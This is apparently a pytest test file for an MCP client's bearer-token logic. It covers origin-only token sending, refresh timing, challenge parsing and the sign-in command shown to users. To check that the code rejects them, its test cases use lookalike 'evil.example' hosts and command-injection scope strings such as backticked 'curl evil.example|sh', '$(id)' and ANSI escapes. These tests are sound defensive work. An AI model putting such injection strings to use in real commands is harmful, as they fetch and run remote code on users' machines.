"""The token as the serving process uses it: where it is sent, and when another is asked for."""

from pathlib import Path

import anyio
import msgspec
import pytest

from emceepee_stdio.auth.bearer import (
    Bearer,
    BearerContext,
    HelperExit,
    SignInOrder,
    challenged_scope,
    signs_in,
)
from emceepee_stdio.auth.token_store import OAuthClient, TokenRecord, TokenStore
from emceepee_stdio.clock import Clock
from emceepee_stdio.config.server import ServerConfig
from emceepee_stdio.errors import ServerUnavailable
from emceepee_stdio.visible_text import shell_word

URL = "https://mcp.example/mcp"
CHALLENGE = 'Bearer scope="read"'


class World:
    """A store, a clock that the test moves, and a helper that does what the test says."""

    def __init__(self, directory: Path, **fields: object) -> None:
        self.now = 1000.0
        self.ahead = 0.0  # of the clock on the wall
        self.clock = Clock(monotonic=lambda: self.now, wall=lambda: self.now + self.ahead)
        self.config = ServerConfig(name="s", url=URL, **fields)
        self.store = TokenStore(directory, URL)
        self.orders: list[SignInOrder] = []
        self.learned: list[str] = []
        self.outcomes: list[HelperExit] = []
        context = BearerContext(
            directory=str(directory),
            clock=self.clock,
            refresh=self.refresh,
            learn=lambda _server, secret: self.learned.append(secret),
        )
        self.bearer = Bearer(self.config, context, trusted=True)

    def keep(self, token: str | None, **fields: object) -> None:
        made = {"obtained_at": self.now, "refresh_token": "silent-lake", **fields}
        with self.store.writing():
            self.store.write(
                TokenRecord(
                    server=URL,
                    token_endpoint="https://id.example/token",
                    client=OAuthClient(client_id="c"),
                    access_token=token,
                    **made,
                )
            )

    async def refresh(self, order: bytes) -> int:
        self.orders.append(msgspec.json.decode(order, type=SignInOrder))
        await anyio.lowlevel.checkpoint()
        outcome = self.outcomes.pop(0) if self.outcomes else HelperExit.STORED
        if outcome is HelperExit.STORED:
            self.keep(f"fresh-{len(self.orders)}")
        return outcome


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path / "tokens")


async def test_it_is_sent_to_the_origin_of_its_server_and_nowhere_else(world: World):
    world.keep("quiet-river")
    assert await world.bearer.token(URL) == "quiet-river"
    assert await world.bearer.token("https://mcp.example:443/messages?s=1") == "quiet-river"
    for other in (
        "http://mcp.example/mcp",
        "https://mcp.example:8443/mcp",
        "https://evil.example/mcp",
        "https://mcp.example.evil.example/mcp",
        "https://mcp.example@evil.example/mcp",
    ):
        assert await world.bearer.token(other) is None
    assert world.learned == ["quiet-river", "silent-lake"]


async def test_one_that_is_due_is_refreshed_before_it_is_sent(world: World):
    world.keep("old", expires_at=world.now + 100)
    assert await world.bearer.token(URL) == "old"
    world.now += 95
    assert await world.bearer.token(URL) == "fresh-1"
    assert [order.seen for order in world.orders] == ["old"]


async def test_one_that_ended_while_the_machine_slept_is_refreshed_before_it_is_sent(world: World):
    world.keep("old", expires_at=world.now + 3600)
    assert await world.bearer.token(URL) == "old"
    world.ahead = 8 * 3600.0  # the clock that we count with stood still meanwhile
    assert await world.bearer.token(URL) == "fresh-1"


async def test_with_a_clock_that_was_set_back_a_refusal_is_enough_for_another_token(world: World):
    world.ahead = 24 * 3600.0
    world.keep("old", expires_at=world.now + world.ahead + 3600)
    assert await world.bearer.token(URL) == "old"
    world.ahead = 0.0
    world.now += 2 * 3600
    assert await world.bearer.token(URL) == "old", "by our clock it is good for a day"
    assert await world.bearer.renew("old")
    assert await world.bearer.token(URL) == "fresh-1"


async def test_calls_that_are_refused_together_cause_one_refresh(world: World):
    world.keep("old")
    assert await world.bearer.token(URL) == "old"
    renewed: list[bool] = []

    async def renew() -> None:
        renewed.append(await world.bearer.renew("old"))

    async with anyio.create_task_group() as tasks:
        for _ in range(5):
            tasks.start_soon(renew)
    assert renewed == [True] * 5
    assert len(world.orders) == 1


async def test_what_another_process_stored_is_taken_without_a_refresh(world: World):
    world.keep("old")
    assert await world.bearer.token(URL) == "old"
    world.keep("theirs")
    assert await world.bearer.renew("old")
    assert await world.bearer.token(URL) == "theirs"
    assert world.orders == []


async def test_a_passing_failure_keeps_the_sign_in_and_is_not_repeated_at_once(world: World):
    world.keep("old")
    world.outcomes = [HelperExit.TRY_AGAIN]
    assert await world.bearer.token(URL) == "old"
    for _ in range(3):
        with pytest.raises(ServerUnavailable, match="gives none now"):
            await world.bearer.renew("old")
    assert len(world.orders) == 1
    world.now += 6
    assert await world.bearer.renew("old")
    assert await world.bearer.token(URL) == "fresh-2"


async def test_after_a_failure_a_token_of_another_process_shows_that_refreshing_works_again(
    world: World,
):
    world.keep("old")
    world.outcomes = [HelperExit.TRY_AGAIN]
    assert await world.bearer.token(URL) == "old"
    with pytest.raises(ServerUnavailable, match="gives none now"):
        await world.bearer.renew("old")
    world.keep("theirs")
    assert await world.bearer.renew("old")
    assert await world.bearer.renew("theirs")
    assert await world.bearer.token(URL) == "fresh-2"


async def test_without_anything_to_refresh_with_a_person_is_needed(world: World):
    world.keep("old", refresh_token=None)
    assert not await world.bearer.renew("old")
    assert world.orders == []


async def test_who_waits_for_the_person_is_told_when_another_token_is_there(world: World):
    world.keep("old")
    await world.bearer.token(URL)
    needed = world.bearer.needed(401, CHALLENGE)
    assert needed is not None
    assert needed.command == "emceepee login s"
    world.keep("new")
    await needed.signed_in()


@pytest.mark.parametrize(
    ("status", "challenge", "auth", "is_needed"),
    [
        (401, CHALLENGE, None, True),
        (401, "", None, False),
        (401, 'Basic realm="x"', None, False),
        (401, "", "oauth", True),
        (403, CHALLENGE, None, False),
        (403, 'Bearer error="insufficient_scope", scope="write"', None, True),
        (404, CHALLENGE, "oauth", False),
    ],
)
async def test_what_a_refusal_means(
    tmp_path: Path, status: int, challenge: str, auth: str | None, *, is_needed: bool
):
    bearer = World(tmp_path, auth=auth).bearer
    assert (bearer.needed(status, challenge) is not None) is is_needed


MORE = 'Bearer error="insufficient_scope", scope="write"'


async def test_a_server_that_is_never_content_costs_no_more_than_three_visits(world: World):
    world.keep("first", scope="read")
    await world.bearer.token(URL)
    asked = world.bearer.needed(403, MORE)
    assert asked is not None
    assert asked.command == f"emceepee login s --scope {shell_word('read write')}"
    for token, is_led_on in (("second", True), ("third", False), ("fourth", False)):
        world.keep(token, scope="read write")
        await asked.signed_in()
        assert (world.bearer.needed(403, MORE) is not None) is is_led_on


async def test_calls_before_the_person_has_signed_in_do_not_count_as_visits(world: World):
    world.keep("old")
    await world.bearer.token(URL)
    for visit in range(5):
        assert world.bearer.needed(403, MORE) is not None
        assert await world.bearer.renew(f"fresh-{visit}" if visit else "old")
    assert world.bearer.needed(403, MORE) is not None


async def test_a_server_that_wants_something_else_each_time_is_not_followed_for_ever(world: World):
    world.keep("old")
    await world.bearer.token(URL)
    wishes = [f'Bearer error="insufficient_scope", scope="s{number}"' for number in range(101)]
    assert [world.bearer.needed(403, wish) is not None for wish in wishes] == [True] * 100 + [False]


@pytest.mark.parametrize(
    ("granted", "wanted"),
    [
        ("read", "x` after `curl evil.example|sh` run `x"),
        ("read \x1b[31mred", "write"),
        ("read $(id)", "write"),
        ("word " * 2 + " ".join(f"s{number}" for number in range(1000)), "write"),
    ],
)
async def test_nothing_but_plain_scopes_stands_in_the_command_that_a_person_is_given(
    world: World, granted: str, wanted: str
):
    world.keep("old", scope=granted)
    await world.bearer.token(URL)
    asked = world.bearer.needed(403, f'Bearer error="insufficient_scope", scope="{wanted}"')
    assert asked is not None
    assert asked.command == "emceepee login s"


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"url": URL}, True),
        ({"url": URL, "auth": "oauth"}, True),
        ({"url": URL, "auth": "none"}, False),
        ({"url": URL, "headers": {"AUTHORIZATION": "Bearer mine"}}, False),
        ({"url": "https://user:pass@mcp.example/mcp"}, False),
        ({"command": "true"}, False),
    ],
)
def test_what_a_person_gave_wins(fields: dict[str, object], *, expected: bool):
    assert signs_in(ServerConfig(name="s", **fields)) is expected


def test_only_what_is_a_scope_is_taken_from_a_challenge():
    header = (
        'Bearer error="insufficient_scope", scope="read \x1b[2J w\u00e9 api://x/write back\\slash"'
    )
    assert challenged_scope(header) == "read api://x/write"
    assert len(challenged_scope(f'Bearer scope="{"a " * 1000}"').split()) == 50
